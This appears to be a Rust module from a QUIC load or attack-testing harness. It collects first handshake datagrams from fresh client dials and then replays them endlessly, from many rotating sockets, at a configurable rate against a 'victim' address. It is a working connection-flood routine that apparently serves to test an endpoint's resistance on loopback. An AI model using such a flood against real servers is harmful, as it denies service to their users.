//! First datagrams of QUIC connections, of which nothing more comes.

use std::collections::HashSet;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use super::attack::Done;
use crate::raw::{endpoint, good_client};

/// Sockets that they come from.
const SOCKETS: usize = 64;
/// Dials after which a new socket dials: an endpoint keeps what it has given up for a while.
const BATCH: usize = 500;

/// The destination's connection id of a first datagram (RFC 9000 section 17.2).
fn destination(datagram: &[u8]) -> Option<&[u8]> {
    let length = usize::from(*datagram.get(5)?);
    datagram.get(6..6 + length)
}

/// Dials somebody who only writes down what comes first.
pub(crate) async fn prepare(count: usize) -> Vec<Vec<u8>> {
    let nobody = tokio::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.expect("a socket");
    let address = nobody.local_addr().expect("it is bound");
    let config = good_client();
    let (mut datagrams, mut seen) = (Vec::new(), HashSet::new());
    let mut buffer = [0; 2048];
    while datagrams.len() < count {
        let dialer = endpoint();
        for _ in 0..BATCH.min(count - datagrams.len()) {
            let dialing = dialer.connect_with(config.clone(), address, "x").expect("a dial");
            // What is sent again, or says that an earlier one was given up, is no first.
            let first = async {
                loop {
                    let length = nobody.recv(&mut buffer).await.expect("a datagram");
                    let id = destination(&buffer[..length]).unwrap_or_default().to_vec();
                    if seen.insert(id) {
                        return buffer[..length].to_vec();
                    }
                }
            };
            let first = tokio::time::timeout(Duration::from_secs(10), first).await;
            datagrams.push(first.expect("a dialer sends"));
            drop(dialing);
        }
    }
    datagrams
}

/// How many go out between two pauses.
const PIECE: usize = 100;

/// Sends them for ever, each time round from another socket: so many a second, or as fast as they go.
pub(crate) fn fire(victim: SocketAddr, datagrams: &[Vec<u8>], rate: Option<u32>, done: &Done) {
    let pause = rate.map(|rate| Duration::from_secs(1) * PIECE as u32 / rate);
    let mut due = Instant::now();
    let socket = |_| UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a socket");
    let sockets: Vec<_> = (0..SOCKETS).map(socket).collect();
    for round in 0.. {
        for (at, datagram) in datagrams.iter().enumerate() {
            if let Some(pause) = pause.filter(|_| at % PIECE == 0) {
                due += pause;
                std::thread::sleep(due.saturating_duration_since(Instant::now()));
            }
            // A full buffer is the kernel's answer to a flood: the next goes out later.
            if sockets[(at + round) % SOCKETS].send_to(datagram, victim).is_ok() {
                Done::count(&done.begun);
            }
        }
    }
}
